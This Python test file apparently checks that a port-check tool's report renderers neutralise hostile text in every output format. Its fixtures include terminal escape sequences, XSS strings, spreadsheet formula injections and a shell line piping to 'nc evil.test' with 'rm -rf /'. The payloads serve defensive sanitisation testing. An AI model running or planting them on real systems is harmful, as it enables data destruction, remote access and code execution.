"""Formats x payloads: whatever a peer, a certificate, a process or a report file says is inert and capped in everything
that is made of it.

Each format has a judge of its own, a foreign parser where there is one. The payload stands in every free text of a
report, in keys of facts too.
"""

import csv
import io
import itertools
import json
import re
import time
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser
from typing import Any

import msgspec
import pytest
from markdown_it import MarkdownIt

from eset_portcheck.comparing import compare
from eset_portcheck.model.report import Report, Tool, from_json
from eset_portcheck.redaction import redacted
from eset_portcheck.render import FORMATS
from eset_portcheck.render import comparison as comparison_formats
from tests.unit.test_render_hostile import REPORTS, hostile

TICKS = "`" * 3
PAYLOADS = {
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x07\x9b31m\x08\x7f",
    "osc-8": "\x1b]8;;http://evil.test/\x1b\\click\x1b]8;;\x1b\\ \x9d8;;file:///etc\x9c",
    "osc-52": "\x1b]52;c;ZXZpbA==\x07\x9d52;c;ZXZpbA==\x9c",
    "title": "\x1b]0;title\x07\x1bP+q544e\x1b\\",
    "nul": "a\0b\0\0c",
    "lines": "one\r\ntwo\nthree\x85four\u2028five\u2029six\x0b\x0c",
    "bidi": "\u202egpj.exe\u2066 \u2067x\u2069\u200f\u061c\u202d",
    "zero-width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u034fh\U000e0041\U000e007f",
    "combining": "z" + "\u0335\u0489" * 60,
    "wide": "\U0001f1f8\U0001f1f0" * 20 + "東京" * 20,
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)><iframe src=//evil.test>",
    "attribute": "\" onmouseover=\"alert(1)\" x='y' autofocus onfocus=alert(1) style='background:url(//evil.test)'",
    "closing": "</code></td></tr></table></style></title></details><!-- --><![CDATA[ ]]>-->*/",
    "entities": "&lt;b&gt; &#60;script&#62; &quot; &amp;amp; &colon;",
    "template": "{{ 7*7 }}{% for x in y %}{# #} {0} {target} %s ${x} {self.__class__}",
    "links": "[x](http://evil.test) ![y](http://evil.test/i.png) <http://evil.test> https://evil.test/a?b www.evil.test bob@evil.test mailto:a@evil.test",
    "script-link": "[x](javascript:alert(1)) [r]: javascript:alert(1)\n[r] <javascript:alert(1)>",
    "markdown": "# head\n> quote\n- item\n1. one\n***\n===\n**bold** _it_ ~~gone~~ \\| ` x ` | a | b |\n| - | - |",
    "fence": f"{TICKS}\n<b>x</b>\n{TICKS}\n~~~\n`` ` ``",
    "reference": "[a][b] [^1] :::note\n[b]: http://evil.test 'x'",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-quoted": '"=1+1",=1+1;=1\n=1',
    "formula-wide": "\uff1d1+1\uff0b\uff20",
    "shell": "$(id) `id`; rm -rf / | nc evil.test 1 && x > /etc/passwd 'a' \"b\" \\",
    "rich": "[red]x[/red] [/] [link=file:///etc/passwd]y[/link] :skull:",
    "long": "x" * (1 << 16),
    "long-ansi": "\x1b[31m" * (1 << 13),
    "long-words": "ab " * (1 << 14),
    "long-dashes": "a-" * (1 << 15),
    "long-brackets": "[" * (1 << 14) + "](" * (1 << 14),
    "long-markup": "<" * (1 << 15) + "&" * (1 << 14),
}
SAMPLES = ("inspected", "deployment", "no-names")
CONTROL = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
LARGEST = 3_000_000  # bytes of one page, however long the texts in it


def lines_only(text: str, ends: str = "\n") -> None:
    assert not CONTROL.search(text.replace(ends, "")), ascii(CONTROL.search(text.replace(ends, "")))
    assert "\t" not in text


def table(data: bytes, _plain: bytes) -> None:
    lines_only(data.decode())


def as_json(data: bytes, _plain: bytes) -> None:
    text = data.decode()
    lines_only(text)
    assert isinstance(json.loads(text), dict)


class Tags(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: set[str] = set()
        self.odd: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name in ("href", "src", "action", "data", "formaction"):
                self.links.add(value or "")

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def html(data: bytes, plain: bytes) -> None:
    """No element, attribute or link that a harmless report of the same kind does not have."""
    text = data.decode()
    lines_only(text)
    page, usual = Tags(text), Tags(plain.decode())
    known = {(tag, name) for tag, name in usual.attributes} | {
        ("li", "id"),
        ("tr", "id"),
        ("a", "href"),
        ("a", "class"),
        ("details", "open"),
    }
    assert page.tags <= usual.tags | {
        "a",
        "small",
        "details",
        "summary",
        "ol",
        "ul",
        "li",
        "br",
        "b",
        "h4",
        "p",
        "span",
        "code",
        "div",
        "dl",
        "dt",
        "dd",
        "i",
    }
    assert {one for one in page.attributes - known if one[1].startswith(("on", "style", "src", "form"))} == set()
    assert all(link.startswith("#") for link in page.links)
    assert page.odd == []
    assert text.count("<style") == plain.decode().count("<style")


def markdown(data: bytes, _plain: bytes) -> None:
    """Read as a ticket system would: no HTML, link, image or block of the payload's making."""
    text = data.decode()
    lines_only(text)
    reader = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough", "linkify"])
    assert reader.linkify is not None
    reader.linkify.set({"fuzzy_link": False})  # as GitHub: an address needs a scheme, www. or an @
    tokens = reader.parse(text)
    inline = [child for token in tokens for child in token.children or []]
    kinds = {token.type for token in (*tokens, *inline)}
    assert not kinds & {"html_block", "html_inline", "link_open", "image", "fence", "s_open", "code_block"}, kinds
    assert not [child.content for child in inline if child.type == "text" and "www." in child.content.lower()]
    assert {token.tag for token in tokens if token.type == "heading_open"} <= {"h2", "h3", "h4"}
    assert not re.search(r"^\s*\[[^\]]+\]:\s", text, re.MULTILINE)


def comma_separated(data: bytes, plain: bytes) -> None:
    text = data.decode()
    lines_only(text, "\r\n")
    rows, usual = [list(csv.reader(io.StringIO(one, newline=""))) for one in (text, plain.decode())]
    assert [len(row) for row in rows] == [len(row) for row in usual]
    risky = [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    ]
    assert [cell for cell in risky if not re.fullmatch(r"-?\d+(\.\d+)?|-", cell)] == []


JUDGES: dict[str, Callable[[bytes, bytes], None]] = {
    "table": table,
    "json": as_json,
    "html": html,
    "md": markdown,
    "csv": comma_separated,
}
SETTINGS: dict[str, list[dict[str, Any]]] = {
    "table": [
        {"width": 80, "verbose": True},
        {"width": 100, "ascii": True},
        {"width": 100, "quiet": True, "language": "es"},
    ],
    "json": [{}],
    "html": [{}, {"language": "es"}],
    "md": [{"verbose": True}, {"quiet": True}],
    "csv": [{}],
}


def test_every_format_has_its_judge() -> None:
    assert set(FORMATS) == set(JUDGES) == set(SETTINGS)
    assert set(comparison_formats.FORMATS) <= set(JUDGES)


@cache
def made(name: str, payload: str) -> Report:
    return hostile(name, PAYLOADS.get(payload, payload))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", SAMPLES)
def test_a_report(name: str, form: str, payload: str) -> None:
    plain, report = made(name, "harmless"), made(name, payload)
    for settings in SETTINGS[form]:
        data = FORMATS[form](report, **settings)
        JUDGES[form](data, FORMATS[form](plain, **settings))
        assert len(data) < LARGEST or form == "json"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("strict", [False, True], ids=["always", "strict"])
def test_redaction_takes_anything_and_caps_it(payload: str, *, strict: bool) -> None:
    """What goes out went through it; also the JSON is capped then, and the same a second time."""
    for name in SAMPLES:
        once = redacted(made(name, payload), strict=strict).report
        data = FORMATS["json"](once)
        as_json(data, b"")
        assert len(data) < 8 * LARGEST
        assert redacted(from_json(data), strict=strict).report == once


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", comparison_formats.FORMATS)
def test_a_comparison(form: str, payload: str) -> None:
    for before, after in itertools.permutations(("inspected", "redirected"), 2):
        render = comparison_formats.FORMATS[form]
        found, usual = (
            compare(made(before, one), made(after, one), Tool(PAYLOADS.get(one, one), "0"))
            for one in (payload, "harmless")
        )
        for settings in SETTINGS[form]:
            data = render(found, **settings)
            JUDGES[form](data, render(usual, **settings))
            assert len(data) < LARGEST or form == "json"


@pytest.mark.parametrize("form", FORMATS)
def test_a_mebibyte_in_every_kind_of_field_costs_no_time(form: str) -> None:
    """Certificate names, headers, banners, DNS and NetBIOS names, processes, site names."""
    huge = ("y-=@" + "z" * 12) * (1 << 16)
    plain = json.loads((REPORTS / "inspected.json").read_bytes())
    row = plain["checks"][0]
    row["target"] = row["purpose"] = row["note"] = row["where"]["ca"] = row["via_destination"] = huge
    chain = row["attempts"][0]["tls"]["chain"][0]
    chain["issuer"], chain["subject"], chain["names"] = huge, huge, [huge, huge]
    row["attempts"][0]["reply"] = {
        "server": huge,
        "location": huge,
        "names": [{"name": huge, "suffix": 3}],
        "realm": huge,
        huge[:4000]: huge,
    }
    row["attempts"][0]["transcript"] = {"first_bytes": "41" * (1 << 19)}
    row["where"]["process"] = {"name": huge, "path": huge}
    row["findings"].append({"reason": "TLS_UNKNOWN_CA", "params": {"issuer": huge}})
    plain["host"]["name"] = plain["run"]["arguments"][1] = huge
    plain["causes"][0]["params"] |= {"target": huge, "issuer": huge}
    report = from_json(json.dumps(plain).encode())
    started = time.process_time()
    for strict in (False, True):
        out = redacted(report, strict=strict).report
        assert len(FORMATS[form](out)) < LARGEST
    FORMATS[form](report)
    assert time.process_time() - started < 6.0


def test_names_that_are_no_unicode_do_not_stop_a_report() -> None:
    """Names of files and processes on Linux are bytes: what is no UTF-8 arrives as lone surrogates, which no JSON can
    hold."""
    plain = made("inspected", "harmless")
    odd = "caf\udce9 \ud800x"
    host = msgspec.structs.replace(plain.host, name=odd, proxies={"http_proxy": odd}, capabilities={odd: [odd]})
    run = msgspec.structs.replace(plain.run, arguments=["--site", odd], connect_to={odd: odd}, id="")
    out = redacted(msgspec.structs.replace(plain, host=host, run=run)).report
    assert out.host.name == "caf\ufffd \ufffdx"
    for form in FORMATS:
        FORMATS[form](out)[:0].decode()
    strict = redacted(out, strict=True).report
    assert from_json(FORMATS["json"](strict)) == strict
